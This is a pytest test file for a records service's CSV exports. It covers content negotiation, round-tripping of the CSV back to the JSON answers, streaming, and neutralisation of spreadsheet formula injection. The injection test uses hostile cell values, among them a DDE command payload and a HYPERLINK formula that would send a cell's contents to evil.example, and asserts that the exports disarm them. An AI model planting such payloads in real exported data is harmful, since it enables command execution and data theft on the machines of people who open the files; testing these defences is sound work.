"""CSV exports of the history, the decision log and the feed: negotiation, RFC 4180 cells that
parse back to the JSON answers, formula injection neutralised, and streaming."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import date
from typing import Any

import pytest

from domain.values import Provenance
from service import exports, queries
from service.application import CollaborationRecords
from tests.integration import http_support
from tests.integration.http_support import PROBLEM_JSON, WHEN, Http, assert_problem

http = http_support.http
http_any = http_support.http_any

INTEGER_COLUMNS = {"position", "version"}
JSON_COLUMNS = {"data", "forces"}
EVENT_COLUMNS = [
    "position",
    "stream_id",
    "version",
    "type",
    "effective_on",
    "recorded_at",
    "actor",
    "reason",
    "evidence",
    "approval_ref",
    "hash",
    "data",
]
HISTORY_COLUMNS = [*EVENT_COLUMNS[:2], "aggregate_type", *EVENT_COLUMNS[2:]]
DECISION_COLUMNS = [
    "position",
    "stream_id",
    "version",
    "collaboration_id",
    "collaboration_name",
    "type",
    "summary",
    "effective_on",
    "recorded_at",
    "actor",
    "reason",
    "evidence",
    "approval_ref",
    "forces",
    "data",
]


def parsed_csv(text: str) -> tuple[list[str], list[dict[str, Any]]]:
    """The header and the rows, typed back as the JSON answers carry them."""
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = []
    for row in reader:
        typed: dict[str, Any] = {}
        for column, cell in row.items():
            if cell == "":
                typed[column] = None
            elif column in INTEGER_COLUMNS:
                typed[column] = int(cell)
            elif column in JSON_COLUMNS:
                typed[column] = json.loads(cell)
            else:
                typed[column] = cell
        rows.append(typed)
    return list(reader.fieldnames or []), rows


def csv_of(http: Http, path: str, **headers: str) -> tuple[list[str], list[dict[str, Any]]]:
    response = http.get(path, **headers)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="')
    assert response.headers["Content-Disposition"].endswith('.csv"')
    assert "Accept" in response.headers["Vary"]
    text = response.get_data(as_text=True)
    assert text.endswith("\r\n") and "\r\n" in text.split("\r\n", 1)[0] + "\r\n"  # CRLF rows, header first
    return parsed_csv(text)


def json_of(http: Http, path: str, **headers: str) -> dict[str, Any]:
    response = http.get(path, **headers)
    assert response.status_code == 200, response.get_json()
    assert response.mimetype == "application/json"
    return response.get_json()


@pytest.fixture
def recorded(http_any: Http) -> dict[str, Any]:
    """A collaboration with a varied history, including text that CSV must quote."""
    alliance = http_any.establish()
    one = f"/api/v1/collaborations/{alliance['id']}"
    ict = http_any.add_function(alliance["id"])
    shares = {"west-mercia": "0.69", "warwickshire": "0.31"}
    writes = [
        ("apportionments", {"function_id": None, "basis": "fixed_ratio", "shares": shares}),
        ("functions/" + ict + "/budgets", {"financial_year": "2019/20", "annual_budget": "10500000.00"}),
        ("reviews", {"outcome": 'Continue, with "conditions"\r\nsecond line', "reason": "Review, 2013\nagreed"}),
        ("variations", {"clause": "7.2", "summary": "Notice is 12 months", "evidence": 'Letter; ref "A/1"'}),
        ("parties", {"force": "dorset"}),
    ]
    for path, body in writes:
        response = http_any.post(f"{one}/{path}", {**WHEN, **body})
        assert response.status_code == 201, response.get_json()
    other = http_any.establish(name="7F Procurement", parties=["suffolk", "norfolk"], lead_force="suffolk")
    return {"alliance": alliance["id"], "other": other["id"], "ict": ict}


def test_history_as_csv_parses_back_to_the_json_history(http_any: Http, recorded: dict[str, Any]):
    path = f"/api/v1/collaborations/{recorded['alliance']}/history"
    items = json_of(http_any, path)["items"]
    assert len(items) == 7
    for header, rows in (csv_of(http_any, path, Accept="text/csv"), csv_of(http_any, f"{path}?format=csv")):
        assert header == HISTORY_COLUMNS
        assert set(header) == set(items[0])  # no field of the JSON is left out
        assert rows == items
    assert rows[4]["reason"] == "Review, 2013\nagreed"  # quoted, line breaks and all
    assert rows[4]["data"] == {"outcome": 'Continue, with "conditions"\r\nsecond line'}
    assert rows[2]["data"]["shares"] == {"west-mercia": "0.69", "warwickshire": "0.31"}  # exact strings
    assert rows[1]["data"]["annual_budget"] == "10000000.00"
    assert all(len(row["hash"]) == 64 for row in rows)

    json_etag = http_any.get(path).headers["ETag"]
    assert http_any.get(f"{path}?format=csv").headers["ETag"] == json_etag == '"7"'
    header, upto = csv_of(http_any, f"{path}?format=csv&upto_version=3")
    assert upto == items[:3]
    assert http_any.get(f"{path}?format=csv&upto_version=3").headers["ETag"] == '"3"'


def test_the_feed_as_csv_is_every_event_after_a_position(http_any: Http, recorded: dict[str, Any]):
    items = json_of(http_any, "/api/v1/events?limit=1000")["items"]
    assert len(items) == 8
    header, rows = csv_of(http_any, "/api/v1/events?format=csv")
    assert header == EVENT_COLUMNS
    assert set(header) == set(items[0])
    assert rows == items
    assert csv_of(http_any, "/api/v1/events?after=5", Accept="text/csv")[1] == items[5:]
    assert csv_of(http_any, "/api/v1/events?after=8&format=csv") == (EVENT_COLUMNS, [])


def test_the_decision_log_as_csv_parses_back_to_its_json_pages(http_any: Http, recorded: dict[str, Any]):
    items = json_of(http_any, "/api/v1/decisions?page_size=100")["items"]
    assert len(items) == 8
    header, rows = csv_of(http_any, "/api/v1/decisions?format=csv")
    assert header == DECISION_COLUMNS
    assert set(header) == set(items[0])
    assert rows == items
    assert rows[6]["forces"] == ["west-mercia", "warwickshire", "dorset"]

    query = f"force=dorset&collaboration={recorded['alliance']}"
    assert csv_of(http_any, f"/api/v1/decisions?{query}", Accept="text/csv")[1] == [items[6]]
    after = items[3]["position"]
    assert csv_of(http_any, f"/api/v1/decisions?after={after}&format=csv")[1] == items[4:]
    assert csv_of(http_any, "/api/v1/decisions?from=2030-01-01&format=csv") == (DECISION_COLUMNS, [])
    assert_problem(http_any.get("/api/v1/decisions?after=999&format=csv"), 422, "validation-failed")


@pytest.mark.parametrize(
    ("path", "query", "fields"),
    [
        ("/api/v1/decisions", "page=2", {"page"}),
        ("/api/v1/decisions", "page_size=1", {"page_size"}),
        ("/api/v1/decisions", "page=1&page_size=20", {"page", "page_size"}),
        ("/api/v1/events", "limit=2", {"limit"}),
    ],
)
def test_csv_exports_refuse_paging_parameters_rather_than_ignore_them(http: Http, path, query, fields):
    http.establish()
    for response in (http.get(f"{path}?{query}&format=csv"), http.get(f"{path}?{query}", Accept="text/csv")):
        body = assert_problem(response, 422, "validation-failed")
        assert set(body["errors"]) == fields and "CSV export" in body["detail"]
    assert http.get(f"{path}?{query}&format=json").status_code == 200  # JSON pages as ever
    assert http.get(f"{path}?format=csv").status_code == 200


def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(http: Http):
    sneaky = http.token("admin", name="=cmd|' /C calc'!A0")
    body = {
        **http_support.ALLIANCE,
        "name": "@SUM(1+1)",
        "reason": '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
        "evidence": "+44 20 7946 0000",
        "approval_ref": "-5.00",
    }
    response = http.post("/api/v1/collaborations", body, sneaky)
    assert response.status_code == 201, response.get_json()
    collaboration_id = response.get_json()["id"]
    one = f"/api/v1/collaborations/{collaboration_id}"
    variation = {**WHEN, "clause": "=1+1", "summary": "-£5.00 a year", "reason": "\tindented", "evidence": "ordinary"}
    assert http.post(f"{one}/variations", variation).status_code == 201

    exported = {
        "history": csv_of(http, f"{one}/history?format=csv")[1],
        "feed": csv_of(http, "/api/v1/events?format=csv")[1],
        "decisions": csv_of(http, "/api/v1/decisions?format=csv")[1],
    }
    for name, rows in exported.items():
        established, varied = rows
        assert established["reason"] == '\'=HYPERLINK("http://evil.example/?leak="&A1, "click")', name
        assert established["actor"].startswith("'=cmd|"), name
        assert established["evidence"] == "'+44 20 7946 0000", name
        assert established["approval_ref"] == "'-5.00", name  # text, so neutralised (money never is a text cell)
        assert varied["reason"] == "indented", name  # the record strips surrounding whitespace
        assert varied["evidence"] == "ordinary", name
        # Nested values keep the exact text: the JSON cell starts with "{", which no spreadsheet runs.
        assert established["data"]["name"] == "@SUM(1+1)", name
        assert varied["data"] == {"clause": "=1+1", "summary": "-£5.00 a year"}, name
    assert exported["decisions"][0]["collaboration_name"] == "'@SUM(1+1)"
    assert exported["decisions"][1]["summary"] == "Variation of clause =1+1 agreed: -£5.00 a year"
    assert exported["history"][0]["type"] == "Collaboration.Established"  # machine-made cells as they are


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "\uff1d1", "'=1"])
def test_every_formula_trigger_is_prefixed_and_nothing_else(text: str):
    assert exports.cell("reason", text) == ("'" + text if text[0] != "'" else text)
    assert exports.cell("data", {"reason": text}) == json.dumps(
        {"reason": text}, ensure_ascii=False, separators=(",", ":")
    )
    assert exports.cell("hash", text) == text  # machine-made columns are exact
    assert exports.cell("reason", "1+1") == "1+1"
    assert exports.cell("reason", None) == ""


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        (None, "application/json"),
        ("*/*", "application/json"),
        ("application/json", "application/json"),
        ("text/csv", "text/csv"),
        ("text/*", "text/csv"),
        ("text/csv;q=0.5, application/json", "application/json"),
        ("application/json;q=0.1, text/csv", "text/csv"),
    ],
)
def test_accept_chooses_between_json_and_csv(http: Http, accept: str | None, expected: str):
    collaboration_id = http.establish()["id"]
    headers = {"Accept": accept} if accept else {}
    for path in (f"/api/v1/collaborations/{collaboration_id}/history", "/api/v1/events", "/api/v1/decisions"):
        response = http.get(path, **headers)
        assert response.status_code == 200, (path, response.get_data(as_text=True))
        assert response.mimetype == expected, path
        assert "Accept" in response.headers["Vary"], path


def test_format_wins_over_accept_and_anything_else_is_refused(http: Http):
    collaboration_id = http.establish()["id"]
    for path in (f"/api/v1/collaborations/{collaboration_id}/history", "/api/v1/events", "/api/v1/decisions"):
        assert http.get(f"{path}?format=json", Accept="text/csv").mimetype == "application/json"
        assert http.get(f"{path}?format=csv", Accept="application/json").mimetype == "text/csv"
        for bad in ("xml", "CSV", "", "csv,json"):
            body = assert_problem(http.get(f"{path}?format={bad}"), 422, "validation-failed")
            assert "format" in body["errors"]
        for accept in ("application/xml", "text/html", "application/json;q=0"):
            response = http.get(path, Accept=accept)
            assert_problem(response, 406, "not-acceptable")
            assert response.mimetype == PROBLEM_JSON


def test_a_csv_of_an_unknown_collaboration_is_a_404_problem(http: Http):
    response = http.get("/api/v1/collaborations/00000000-0000-4000-8000-000000000000/history?format=csv")
    assert_problem(response, 404, "collaboration-not-found")
    assert_problem(http.get("/api/v1/events?format=csv", token=None), 401, "unauthenticated")


@pytest.fixture
def long_history(http: Http) -> str:
    """One collaboration with 301 events, saved at once."""
    records: CollaborationRecords = http.app.extensions["records"]
    collaboration_id = http.establish()["id"]
    collaboration = records.collaboration(collaboration_id)
    provenance = Provenance(date(2015, 4, 1), "tester (admin)", "annual review")
    for number in range(300):
        collaboration.hold_review(outcome=f"review {number}", provenance=provenance)
    records.save(collaboration)
    return collaboration_id


def dispatched(http: Http, path: str, **headers: str) -> Any:
    """The Flask response the app builds, before the test client buffers it."""
    with http.app.test_request_context(path, headers=http.headers(**headers)):
        return http.app.full_dispatch_request()


def test_a_long_history_is_streamed_in_chunks_and_read_in_pages(http: Http, long_history: str, monkeypatch):
    records: CollaborationRecords = http.app.extensions["records"]
    reads: list[int | None] = []
    original_get = records.events.get

    def counting_get(*args: Any, **kwargs: Any) -> Iterator[Any]:
        reads.append(kwargs.get("limit"))
        return original_get(*args, **kwargs)

    monkeypatch.setattr(records.events, "get", counting_get)
    monkeypatch.setattr(queries, "READ_CHUNK", 50)
    path = f"/api/v1/collaborations/{long_history}/history"

    json_response = dispatched(http, path)
    assert not json_response.is_streamed  # the JSON answer is built whole: the comparison that makes this test bite
    reads.clear()

    response = dispatched(http, f"{path}?format=csv")
    assert response.is_streamed
    assert reads.count(50) == 1  # the first page, read before the response starts
    chunks = list(response.response)
    assert reads.count(50) == 7  # 301 events in pages of 50
    assert all(limit == 50 for limit in reads[reads.index(50) :])
    assert len(chunks) >= 2 and all(isinstance(chunk, bytes) for chunk in chunks)
    _header, rows = parsed_csv(b"".join(chunks).decode())
    assert [row["version"] for row in rows] == list(range(1, 302))
    assert rows == json_response.get_json()["items"]


def test_the_feed_and_the_decision_log_are_streamed_too(http: Http, long_history: str, monkeypatch):
    monkeypatch.setattr(queries, "READ_CHUNK", 100)
    feed = dispatched(http, "/api/v1/events?format=csv")
    assert feed.is_streamed
    assert len(parsed_csv(b"".join(feed.response).decode())[1]) == 301

    log = http.app.extensions["decision_log"]
    pages: list[int] = []
    original_export = log.view.export

    def counting_export(*args: Any, **kwargs: Any) -> Iterator[Any]:
        for item in original_export(*args, **kwargs):
            pages.append(item["position"])
            yield item

    monkeypatch.setattr(log.view, "export", counting_export)
    decisions = dispatched(http, "/api/v1/decisions", Accept="text/csv")
    assert decisions.is_streamed
    assert len(pages) == 1  # only the first row has been read so far
    assert len(parsed_csv(b"".join(decisions.response).decode())[1]) == 301
    assert len(pages) == 301


def test_openapi_says_these_reads_also_answer_csv(http: Http):
    spec = http.get("/api/v1/openapi.json", token=None).get_json()
    for path in ("/api/v1/collaborations/{collaboration_id}/history", "/api/v1/events", "/api/v1/decisions"):
        operation = spec["paths"][path]["get"]
        # the feed also answers as a CloudEvents batch (tests/integration/test_http_event_stream.py)
        batch = {"application/cloudevents-batch+json"} if path == "/api/v1/events" else set()
        assert set(operation["responses"]["200"]["content"]) == {"application/json", "text/csv"} | batch, path
        assert "406" in operation["responses"], path
        (format_parameter,) = [p for p in operation["parameters"] if p["name"] == "format"]
        assert format_parameter["schema"]["enum"] == ["json", "csv"] + (["cloudevents"] if batch else [])
